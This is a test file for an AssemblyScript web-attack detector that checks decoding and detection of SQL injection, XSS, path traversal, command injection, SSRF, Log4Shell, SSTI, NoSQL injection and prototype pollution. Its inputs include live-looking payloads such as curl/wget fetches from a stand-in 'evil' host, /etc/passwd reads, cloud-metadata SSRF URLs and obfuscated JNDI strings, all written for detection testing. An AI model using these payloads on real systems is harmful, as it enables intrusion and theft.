/// <reference types="assemblyscript/std/assembly/index" />
/// <reference types="@as-pect/assembly/types/as-pect.d" />
import {
  AttackFindings, AttackScanner, detectAttacks, detectLeaks, attackName, attackKindByName,
  ATTACK_SQLI, ATTACK_XSS, ATTACK_PATH_TRAVERSAL, ATTACK_COMMAND_INJECTION, ATTACK_SSRF, ATTACK_LOG4SHELL,
  ATTACK_SSTI, ATTACK_NOSQLI, ATTACK_PROTOTYPE_POLLUTION, LEAK_STACK_TRACE, LEAK_SQL_ERROR, SOURCE_QUERY, SOURCE_JSON, SOURCE_HEADER,
} from "../../assembly/attack/index";
import { ByteBuf, Normalizer, urlDecode, htmlEntityDecode, jsUnescape, utf8Normalize, normalizeSpace, stripSqlComments, foldCase } from "../../assembly/attack/decode";
import { sqliLevel, sqlTokens } from "../../assembly/attack/sqli";
import { xssLevel } from "../../assembly/attack/xss";
import { pathTraversalLevel } from "../../assembly/attack/traversal";
import { commandInjectionLevel } from "../../assembly/attack/command";
import { ssrfLevel, parseLooseIpv4 } from "../../assembly/attack/ssrf";

/** A raw detector level that does not fire at paranoia 1. */
function quietAtL1(level: i32): bool { return level == 0 || level > 1; }

function bytes(s: string): Uint8Array { return Uint8Array.wrap(String.UTF8.encode(s)); }

const out = new AttackFindings();
function kinds(s: string, key: string = "", level: i32 = 1, source: i32 = SOURCE_JSON): i32 {
  out.reset();
  const b = bytes(s);
  detectAttacks(b, 0, b.length, key, level, out, source);
  return out.mask;
}
function fires(s: string, kind: i32, key: string = "", level: i32 = 1, source: i32 = SOURCE_JSON): bool {
  return (kinds(s, key, level, source) & (1 << kind)) != 0;
}
/** Lower-case bytes of s, as detectors see them when no decoding step applies. */
function lowerRaw(s: string): ByteBuf {
  const b = new ByteBuf();
  const src = bytes(s);
  b.copyFrom(src, 0, src.length);
  foldCase(b);
  return b;
}

describe("decoding: each step catches an encoded payload the raw bytes hide", () => {
  test("URL decoding", () => {
    const p = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    const raw = lowerRaw(p);
    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_XSS)).toBe(true);
  });
  test("double URL decoding", () => {
    const p = "%253Cscript%253Ealert(1)";
    const once = new ByteBuf();
    const src = bytes(p);
    urlDecode(src, 0, src.length, once, false);
    expect(quietAtL1(xssLevel(once.data, 0, once.len))).toBe(true);
    expect(fires(p, ATTACK_XSS)).toBe(true);
  });
  test("plus decoding (query/form values)", () => {
    const p = "1'+or+1=1--";
    const raw = lowerRaw(p);
    expect(quietAtL1(sqliLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_SQLI, "q", 1, SOURCE_QUERY)).toBe(true);
    expect(fires(p, ATTACK_SQLI, "q", 1, SOURCE_JSON)).toBe(false);
  });
  test("HTML entities, named and numeric (with and without ';', leading zeros)", () => {
    const p = "&lt;script&gt;go&lt;/script&gt;";
    const raw = lowerRaw(p);
    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_XSS)).toBe(true);
    const q = "<a href=\"&#106;&#x61;vascript&#0000058alert(1)\">x</a>";
    const rq = lowerRaw(q);
    expect(quietAtL1(xssLevel(rq.data, 0, rq.len))).toBe(true);
    expect(fires(q, ATTACK_XSS)).toBe(true);
  });
  test("JSON/JS escapes \\uXXXX and \\xHH", () => {
    const p = "\\u003cscript\\u003ealert(1)";
    const raw = lowerRaw(p);
    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_XSS)).toBe(true);
    expect(fires("\\x3cscript\\x3ealert(1)", ATTACK_XSS)).toBe(true);
  });
  test("UTF-8 overlong forms (%c0%ae%c0%ae%c0%af)", () => {
    const p = "%c0%ae%c0%ae%c0%afetc%c0%afpasswd";
    const once = new ByteBuf();
    const src = bytes(p);
    urlDecode(src, 0, src.length, once, false);
    expect(quietAtL1(pathTraversalLevel(once.data, 0, once.len))).toBe(true);
    expect(fires(p, ATTACK_PATH_TRAVERSAL)).toBe(true);
    const n = new ByteBuf();
    expect(utf8Normalize(once.data, 0, once.len, n)).toBe(true);
    expect(n.toString()).toBe("../etc/passwd");
  });
  test("case folding", () => {
    const p = "<ScRiPt>go</sCrIpT>";
    const b = bytes(p);
    expect(quietAtL1(xssLevel(b, 0, b.length))).toBe(true);
    expect(fires(p, ATTACK_XSS)).toBe(true);
  });
  test("SQL comment stripping (UN/**/ION)", () => {
    const p = "1 UN/**/ION SEL/**/ECT password FROM users";
    const raw = lowerRaw(p);
    expect(quietAtL1(sqliLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_SQLI)).toBe(true);
    const s = new ByteBuf();
    const src = bytes("a/*x*/b/*!50000union*/ -- c");
    stripSqlComments(src, 0, src.length, s);
    expect(s.toString()).toBe("abunion  ");
  });
  test("whitespace normalisation (UTF-8 NBSP between tokens)", () => {
    const p = "1'\u00a0or\u00a01=1--";
    const raw = lowerRaw(p);
    expect(quietAtL1(sqliLevel(raw.data, 0, raw.len))).toBe(true);
    expect(fires(p, ATTACK_SQLI)).toBe(true);
    const n = new ByteBuf();
    const src = bytes("a \t\n b");
    normalizeSpace(src, 0, src.length, n);
    expect(n.toString()).toBe("a\nb");
  });
  test("decoders are bounded: output never exceeds the cap", () => {
    const big = new Uint8Array(40000).fill(0x41);
    const n = new Normalizer();
    n.run(big, 0, big.length, SOURCE_QUERY);
    expect(n.out.len).toBeLessThanOrEqual(16384);
    expect(n.truncated).toBe(true);
  });
  test("the no-decoding shortcut agrees with every step on 20,000 seeded random values", () => {
    const fast = new Normalizer(), slow = new Normalizer();
    const alpha: u8[] = [0x00, 0x09, 0x0a, 0x1f, 0x20, 0x2b, 0x25, 0x26, 0x5c, 0x41, 0x5a, 0x61, 0x7a, 0x30, 0x2e, 0x7f, 0x80, 0xc2, 0xa0, 0x3c];
    const buf = new Uint8Array(48);
    let seed: u32 = 20261121;
    let differ = 0;
    for (let it = 0; it < 20000; it++) {
      seed = seed * 1103515245 + 12345;
      const n = <i32>((seed >> 8) % 40);
      for (let k = 0; k < n; k++) {
        seed = seed * 1103515245 + 12345;
        const r = seed >> 8;
        buf[k] = (r & 3) == 0 ? alpha[(r >> 2) % <u32>alpha.length] : <u8>(0x61 + (r >> 2) % 26);
      }
      const source = <i32>(it % 5);
      fast.run(buf, 0, n, source);
      slow.run(buf, 0, n, source, false);
      if (fast.out.toString() != slow.out.toString() || fast.lower.toString() != slow.lower.toString()) differ++;
    }
    expect(differ).toBe(0);
  });
  test("NUL bytes take the full passes (the shortcut kept them, so <scr\\0ipt> read as two words)", () => {
    const b = new Uint8Array(12);
    const s = "<scr ipt>xx";
    for (let i = 0; i < s.length; i++) b[i] = <u8>s.charCodeAt(i);
    b[4] = 0; // <scr\0ipt>
    const n = new Normalizer();
    n.run(b, 0, 9, SOURCE_JSON);
    expect(n.lower.toString()).toBe("<script>");
    out.reset();
    detectAttacks(b, 0, 9, "", 1, out, SOURCE_JSON);
    expect(out.has(ATTACK_XSS)).toBe(true);
  });
  test("the no-decoding shortcut gives the same canonical and lower-case bytes as running every step", () => {
    const samples = ["plain", "a\u0000b", "nul\u0000", "Mixed Case Words", "/api/orders", "page=1", " lead", "trail ", "two  spaces", "a+b", "100%25",
      "caf\u00e9", "Tom &amp; Jerry", "tab\there", "back\\slash", "", "x", "UNION SELECT 1", "%2527", "line\nbreak", "A+B=C"];
    const fast = new Normalizer(), slow = new Normalizer();
    for (let i = 0; i < samples.length; i++) {
      const src = bytes(samples[i]);
      for (let source = 0; source <= 4; source++) {
        fast.run(src, 0, src.length, source);
        slow.run(src, 0, src.length, source, false);
        expect(fast.out.toString()).toBe(slow.out.toString(), samples[i]);
        expect(fast.lower.toString()).toBe(slow.lower.toString(), samples[i]);
        expect(fast.truncated).toBe(slow.truncated);
      }
    }
  });
  test("numeric entities with any number of leading zeros decode (the digit cap counts significant digits)", () => {
    const o = new ByteBuf();
    const src = bytes("&#" + "0".repeat(40) + "60;script&#x" + "0".repeat(30) + "3e;&#0;");
    expect(htmlEntityDecode(src, 0, src.length, o)).toBe(true);
    expect(o.len).toBe(9); // "<script>" and the NUL of &#0;
    expect(String.UTF8.decodeUnsafe(o.data.dataStart, 8)).toBe("<script>");
  });
  test("entity and escape decoders leave plain text alone", () => {
    const o = new ByteBuf();
    const src = bytes("Tom & Jerry \\ co; 100% & more");
    expect(htmlEntityDecode(src, 0, src.length, o)).toBe(false);
    expect(jsUnescape(src, 0, src.length, o)).toBe(false);
    expect(urlDecode(src, 0, src.length, o, false)).toBe(false);
  });
});

describe("attack.sqli", () => {
  test("fingerprints in three quote contexts", () => {
    const b = bytes("1' or '1'='1");
    expect(sqlTokens(b, 0, b.length, 0x27).fingerprint()).toBe("s&sos");
    const u = bytes("-1 union select 1,2");
    expect(sqlTokens(u, 0, u.length, 0).fingerprint()).toBe("nUEn,n");
  });
  test("classic injections", () => {
    expect(fires("1' or '1'='1", ATTACK_SQLI)).toBe(true);
    expect(fires("admin'--", ATTACK_SQLI)).toBe(true);
    expect(fires("1 AND 1=1", ATTACK_SQLI)).toBe(true);
    expect(fires("1; DROP TABLE users", ATTACK_SQLI)).toBe(true);
    expect(fires("1 AND SLEEP(5)", ATTACK_SQLI)).toBe(true);
    expect(fires("'; WAITFOR DELAY '0:0:5'--", ATTACK_SQLI)).toBe(true);
    expect(fires("1' ORDER BY 3--", ATTACK_SQLI)).toBe(true);
  });
  test("prose with quotes and SQL words stays quiet", () => {
    expect(fires("O'Brien's \"union\" select committee", ATTACK_SQLI)).toBe(false);
    expect(fires("I'd like to update my order and delete the old address", ATTACK_SQLI)).toBe(false);
    expect(fires("Meet me @ 10; sleep well", ATTACK_SQLI)).toBe(false);
    expect(fires("Rock 'n' roll & blues", ATTACK_SQLI)).toBe(false);
  });
});

describe("attack.xss", () => {
  test("script contexts, handlers, script URLs, dangerous tags, CSS expressions", () => {
    expect(fires("<script>alert(1)</script>", ATTACK_XSS)).toBe(true);
    expect(fires("<svg/onload=alert(1)>", ATTACK_XSS)).toBe(true);
    expect(fires("<a href=\"java\tscript:alert(1)\">x</a>", ATTACK_XSS)).toBe(true);
    expect(fires("javascript:alert(document.cookie)", ATTACK_XSS)).toBe(true);
    expect(fires("<iframe src=//evil>", ATTACK_XSS)).toBe(true);
    expect(fires("<meta http-equiv=refresh content=\"0;url=data:text/html,x\">", ATTACK_XSS)).toBe(true);
    expect(fires("<div style=\"width:expression(alert(1))\">", ATTACK_XSS)).toBe(true);
    expect(fires("\" onmouseover=\"alert(1)", ATTACK_XSS)).toBe(true);
  });
  test("ordinary markup and comparisons stay quiet", () => {
    expect(fires("<b>bold</b> and <i>italic</i>", ATTACK_XSS)).toBe(false);
    expect(fires("if a<b and c>d then", ATTACK_XSS)).toBe(false);
    expect(fires("online=yes", ATTACK_XSS)).toBe(false);
  });
});

describe("other request-side detectors", () => {
  test("path traversal", () => {
    expect(fires("../../../etc/passwd", ATTACK_PATH_TRAVERSAL)).toBe(true);
    expect(fires("..\\..\\windows\\win.ini", ATTACK_PATH_TRAVERSAL)).toBe(true);
    expect(fires("%2e%2e%2f%2e%2e%2fetc%2fshadow", ATTACK_PATH_TRAVERSAL)).toBe(true);
    expect(fires("Wait... what?", ATTACK_PATH_TRAVERSAL)).toBe(false);
  });
  test("command injection", () => {
    expect(fires("x; cat /etc/passwd", ATTACK_COMMAND_INJECTION)).toBe(true);
    expect(fires("a | whoami", ATTACK_COMMAND_INJECTION)).toBe(true);
    expect(fires("$(curl http://x/s.sh)", ATTACK_COMMAND_INJECTION)).toBe(true);
    expect(fires("`id`", ATTACK_COMMAND_INJECTION)).toBe(true);
    expect(fires("x\nwget http://evil/x", ATTACK_COMMAND_INJECTION)).toBe(true);
    expect(fires("Tom & Jerry; ping me later", ATTACK_COMMAND_INJECTION)).toBe(false);
  });
  test("ssrf: loopback, metadata, odd schemes, encoded IPs", () => {
    expect(fires("http://169.254.169.254/latest/meta-data/", ATTACK_SSRF)).toBe(true);
    expect(fires("http://metadata.google.internal/computeMetadata/v1/", ATTACK_SSRF)).toBe(true);
    expect(fires("http://2130706433/", ATTACK_SSRF)).toBe(true);
    expect(fires("http://0x7f.1/", ATTACK_SSRF)).toBe(true);
    expect(fires("http://evil.com@127.0.0.1:8080/", ATTACK_SSRF)).toBe(true);
    expect(fires("gopher://x:25/_HELO", ATTACK_SSRF)).toBe(true);
    expect(fires("http://[::1]/", ATTACK_SSRF)).toBe(true);
    expect(fires("https://example.com/a?b=1", ATTACK_SSRF)).toBe(false);
    expect(fires("8455 Long Lane", ATTACK_SSRF)).toBe(false);
    expect(parseLooseIpv4(bytes("0177.0.0.1"), 0, 10)).toBe(0x7f000001);
  });
  test("log4shell and its obfuscations", () => {
    expect(fires("${jndi:ldap://x/a}", ATTACK_LOG4SHELL)).toBe(true);
    expect(fires("${${lower:j}ndi:ldap://x/a}", ATTACK_LOG4SHELL)).toBe(true);
    expect(fires("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", ATTACK_LOG4SHELL)).toBe(true);
    expect(fires("${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}", ATTACK_LOG4SHELL)).toBe(true);
    expect(fires("Price: ${price}", ATTACK_LOG4SHELL)).toBe(false);
  });
  test("ssti", () => {
    expect(fires("{{7*7}}", ATTACK_SSTI)).toBe(true);
    expect(fires("{{''.__class__.__mro__}}", ATTACK_SSTI)).toBe(true);
    expect(fires("<%= system('id') %>", ATTACK_SSTI)).toBe(true);
    expect(fires("{{ first_name }}, your order shipped", ATTACK_SSTI)).toBe(false);
  });
  test("nosqli in keys and values", () => {
    expect(fires("1", ATTACK_NOSQLI, "password[$ne]")).toBe(true);
    expect(fires("1", ATTACK_NOSQLI, "$where")).toBe(true);
    expect(fires("{\"$gt\": \"\"}", ATTACK_NOSQLI)).toBe(true);
    expect(fires("costs $5", ATTACK_NOSQLI, "price")).toBe(false);
  });
  test("prototype pollution", () => {
    expect(fires("1", ATTACK_PROTOTYPE_POLLUTION, "__proto__")).toBe(true);
    expect(fires("a[constructor][prototype][x]=1", ATTACK_PROTOTYPE_POLLUTION)).toBe(true);
    expect(fires("the constructor of the prototype", ATTACK_PROTOTYPE_POLLUTION)).toBe(false);
  });
  test("paranoia levels: higher levels only add findings", () => {
    const v = "1 or 2";
    const l1 = kinds(v, "", 1), l4 = kinds(v, "", 4);
    expect(l1 & ~l4).toBe(0);
  });
});

describe("response-side leaks", () => {
  test("stack traces and SQL errors", () => {
    const f = new AttackFindings();
    const j = bytes("java.lang.NullPointerException\n\tat com.acme.Foo.bar(Foo.java:42)");
    detectLeaks(j, 0, j.length, 1, f);
    expect(f.has(LEAK_STACK_TRACE)).toBe(true);
    f.reset();
    const p = bytes("Traceback (most recent call last):\n  File \"app.py\", line 3");
    detectLeaks(p, 0, p.length, 1, f);
    expect(f.has(LEAK_STACK_TRACE)).toBe(true);
    f.reset();
    const m = bytes("You have an error in your SQL syntax; check the manual");
    detectLeaks(m, 0, m.length, 1, f);
    expect(f.has(LEAK_SQL_ERROR)).toBe(true);
    f.reset();
    const ok = bytes("{\"status\":\"ok\",\"message\":\"order created\"}");
    detectLeaks(ok, 0, ok.length, 4, f);
    expect(f.count).toBe(0);
  });
});

describe("API and robustness", () => {
  test("names round-trip", () => {
    expect(attackName(ATTACK_SQLI)).toBe("attack.sqli");
    expect(attackKindByName("leak.sql_error")).toBe(LEAK_SQL_ERROR);
    expect(attackName(99)).toBe("");
  });
  test("Referer/Origin holding a URL to an IP literal is level 2 (a page served from an IP sends one); a parameter is level 1", () => {
    const u = "http://203.0.113.7:8080/app/page?x=1";
    expect(fires(u, ATTACK_SSRF, "referer", 1, SOURCE_HEADER)).toBe(false);
    expect(fires(u, ATTACK_SSRF, "referer", 2, SOURCE_HEADER)).toBe(true);
    expect(fires(u, ATTACK_SSRF, "origin", 1, SOURCE_HEADER)).toBe(false);
    expect(fires(u, ATTACK_SSRF, "callback", 1, SOURCE_QUERY)).toBe(true);
    expect(fires(u, ATTACK_SSRF, "x-callback", 1, SOURCE_HEADER)).toBe(true);
  });
  test("verdict cache: a repeated value is answered from the cache with the same findings; any differing input is not", () => {
    const sc = new AttackScanner();
    const f = new AttackFindings();
    const attack = bytes("1' OR '1'='1");
    const benign = bytes("1' OR '1'='2"); // same length, differs in the last byte
    sc.detect(attack, 0, attack.length, "q", 1, f, SOURCE_QUERY);
    const first = f.mask;
    expect(first & (1 << ATTACK_SQLI)).not.toBe(0);
    expect(sc.cacheHits).toBe(0);
    f.reset();
    sc.detect(attack, 0, attack.length, "q", 1, f, SOURCE_QUERY);
    expect(sc.cacheHits).toBe(1);
    expect(f.mask).toBe(first);
    expect(f.levels[0]).toBe(1);
    // a different value, key, level or source is a different entry (verified by bytes, not by hash alone)
    f.reset();
    sc.detect(benign, 0, benign.length, "q", 1, f, SOURCE_QUERY);
    expect(sc.cacheHits).toBe(1);
    f.reset();
    sc.detect(attack, 0, attack.length, "other", 1, f, SOURCE_QUERY);
    sc.detect(attack, 0, attack.length, "q", 2, f, SOURCE_QUERY);
    sc.detect(attack, 0, attack.length, "q", 1, f, SOURCE_JSON);
    expect(sc.cacheHits).toBe(1);
    // every kind's level survives the round trip through the cache
    const multi = bytes("<script>alert(1)</script>; cat /etc/passwd");
    const g = new AttackFindings(), h = new AttackFindings();
    sc.detect(multi, 0, multi.length, "", 2, g, SOURCE_JSON);
    sc.detect(multi, 0, multi.length, "", 2, h, SOURCE_JSON);
    expect(h.mask).toBe(g.mask);
    for (let i = 0; i < g.count; i++) expect(h.levels[i]).toBe(g.levels[i]);
  });
  test("out-of-range spans and random bytes never trap", () => {
    const sc = new AttackScanner();
    const f = new AttackFindings();
    const b = bytes("<script>");
    sc.detect(b, -5, 999, "k", 9, f);
    expect(f.has(ATTACK_XSS)).toBe(true);
    let seed: u32 = 12345;
    const r = new Uint8Array(3000);
    for (let round = 0; round < 20; round++) {
      for (let i = 0; i < r.length; i++) { seed = seed * 1103515245 + 12345; r[i] = <u8>(seed >> 16); }
      f.reset();
      sc.detect(r, 0, r.length, "", 4, f, SOURCE_QUERY);
      sc.detectResponse(r, 0, r.length, 4, f);
    }
    expect(f.count).toBeGreaterThanOrEqual(0);
  });
});
